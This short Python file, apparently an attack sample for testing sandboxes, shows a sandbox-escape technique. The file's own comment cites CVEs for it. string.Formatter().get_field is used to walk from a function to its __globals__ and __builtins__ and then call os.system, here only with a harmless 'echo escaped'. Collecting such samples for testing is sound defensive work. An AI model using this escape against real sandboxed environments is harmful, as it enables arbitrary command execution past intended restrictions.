# attack: string.Formatter().get_field walks attributes without guards (CVE-2023-41039, CVE-2026-76825)
import string


def f():
    pass


obj, key = string.Formatter().get_field("0.__globals__", [f], {})
ns = obj["__builtins__"]
ns = ns if isinstance(ns, dict) else ns.__dict__
ns["__import__"]("os").system("echo escaped")
